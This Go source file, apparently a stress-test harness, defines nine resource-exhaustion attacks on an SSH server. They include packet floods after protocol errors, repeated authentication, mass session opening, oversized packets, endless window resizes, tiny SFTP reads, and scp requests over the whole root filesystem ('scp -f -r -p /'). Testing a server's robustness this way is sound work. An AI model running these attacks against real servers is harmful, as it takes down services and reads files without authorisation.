//go:build unix

package siege

import (
	"bytes"
	"context"
	"math"
	"net"
	"strings"
	"time"
)

// hoards are the attacks on what a connection may make the server keep, or do over and over, for next to nothing.
func hoards() []Attack {
	return []Attack{
		{"packets behind a mistake", 8, mistaken},
		{"packets behind a failed attempt", 8, unlucky},
		{"packets behind a wrong service", 8, misguided},
		{"all at once, and gone", 8, hasty},
		{"the longest packets", 16, longest},
		{"sessions whose refusals nobody reads", 16, unreadRefusals},
		{"resizes without end", 30, resizes},
		{"copies in the smallest packets", 8, crumbs},
		{"patterns without answers", 8, patterns},
	}
}

// pile sends, behind what is packed already, a packet over and over at once, more often than a server may keep packets that it
// does not work on, and waits until it is cut off.
func (w *wire) pile(b, packet []byte) {
	for range 40 {
		b = append(b, w.pack(packet)...)
	}
	_, _ = w.Write(b)
	linger(w.r)
}

// stay waits for a while, or until ctx ends.
func stay(ctx context.Context, d time.Duration) {
	select {
	case <-ctx.Done():
	case <-time.After(d):
	}
}

// mistaken sends, on its way out, data for a channel that there is not, and more behind it.
func mistaken(ctx context.Context, t *Target) error {
	w, err := t.raw(ctx)
	if err != nil {
		return err
	}
	w.pile(nil, []byte{94, 0, 0, 0, 77, 0, 0, 0, 0})
	return nil
}

// unlucky attempts to authenticate more often than it may, without waiting for answers.
func unlucky(ctx context.Context, t *Target) error {
	w, err := t.keyed(ctx)
	if err != nil {
		return err
	}
	if err := w.service(); err != nil {
		return err
	}
	w.pile(nil, authRequest("hostbased"))
	return nil
}

// misguided asks for a service that there is not, and sends more behind it.
func misguided(ctx context.Context, t *Target) error {
	w, err := t.keyed(ctx)
	if err != nil {
		return err
	}
	w.pile(w.pack(serviceRequest("ssh-connection")), []byte{192})
	return nil
}

// hasty sends all that a client may send without waiting for answers, and goes; every other one without a word.
func hasty(ctx context.Context, t *Target) error {
	w, err := t.keyed(ctx)
	if err != nil {
		return err
	}
	b := append(w.pack(serviceRequest("ssh-userauth")), w.pack(authRequest("none"))...)
	for id := range uint32(60) {
		b = append(b, w.pack(openRequest("session", id, 1<<31))...)
	}
	_, _ = w.Write(b)
	if t.next(2) == 0 {
		_ = w.Conn.(*net.TCPConn).SetLinger(0)
	}
	return nil
}

// longest sends a packet as long as the library takes one, beside a screen, and stays.
func longest(ctx context.Context, t *Target) error {
	w, channel, err := t.channel(ctx)
	if err != nil {
		return err
	}
	go linger(w.r)
	_ = w.request(channel, "pty-req", false, terminal(80, 24))
	_ = w.request(channel, "shell", false, nil)
	_ = w.send(append([]byte{msgIgnore, 0, 3, 0xff, 0xb0}, bytes.Repeat([]byte{'x'}, 256<<10-80)...))
	stay(ctx, time.Minute)
	return nil
}

// unreadRefusals fills the way back, and opens sessions of which each is refused.
func unreadRefusals(ctx context.Context, t *Target) error {
	nc, err := t.dialNarrow(ctx)
	if err != nil {
		return err
	}
	w, err := enter(nc)
	if err != nil {
		return err
	}
	screen, err := w.open(0, 1<<31)
	if err != nil {
		return err
	}
	stream, err := w.open(1, 1<<31)
	if err != nil {
		return err
	}
	_ = w.request(screen, "pty-req", false, terminal(80, 24))
	_ = w.request(screen, "shell", false, nil)
	_ = w.request(stream, "exec", false, struct{ Line string }{"scp -f -r -p /"})
	_ = w.keys(stream, strings.Repeat("\x00", 4000))
	stay(ctx, time.Second)
	for id := uint32(2); w.send(openRequest("session", id, 1<<31)) == nil; id++ {
	}
	return nil
}

// resizes reads a post in a window whose edge is dragged for ever.
func resizes(ctx context.Context, t *Target) error {
	w, channel, err := t.channel(ctx)
	if err != nil {
		return err
	}
	go linger(w.r)
	_ = w.request(channel, "pty-req", false, terminal(80, 24))
	_ = w.request(channel, "exec", false, struct{ Line string }{t.Post})
	tick := time.NewTicker(33 * time.Millisecond)
	defer tick.Stop()
	for range tick.C {
		if w.request(channel, "window-change", false, windowSize{uint32(20 + t.next(280)), uint32(10 + t.next(90)), 0, 0}) != nil {
			break
		}
	}
	return nil
}

// crumbs copies a file over and over, and takes nine bytes at a time.
func crumbs(ctx context.Context, t *Target) error {
	w, err := t.raw(ctx)
	if err != nil {
		return err
	}
	channel, err := w.openWith(0, math.MaxUint32, 9)
	if err != nil {
		return err
	}
	if err := w.request(channel, "subsystem", true, struct{ Name string }{"sftp"}); err != nil {
		return err
	}
	if _, err := w.until(msgChannelSuccess); err != nil {
		return err
	}
	go linger(w.r)
	_ = w.keys(channel, string(sftp(sftpInit, uint32(3)))+string(sftp(sftpOpen, uint32(1), "/feed.xml", uint32(1), uint32(0))))
	for id := uint32(2); w.keys(channel, string(sftp(sftpRead, id, "0", uint64(0), uint32(32<<10)))) == nil; id++ {
	}
	return nil
}

// patterns asks by the old protocol for files of many names, begins, and stays.
func patterns(ctx context.Context, t *Target) error {
	w, channel, err := t.channel(ctx)
	if err != nil {
		return err
	}
	go linger(w.r)
	_ = w.request(channel, "exec", false, struct{ Line string }{"scp -f '/*/*/*' '/*/*' '/*'"})
	_ = w.keys(channel, "\x00")
	stay(ctx, time.Minute)
	return nil
}
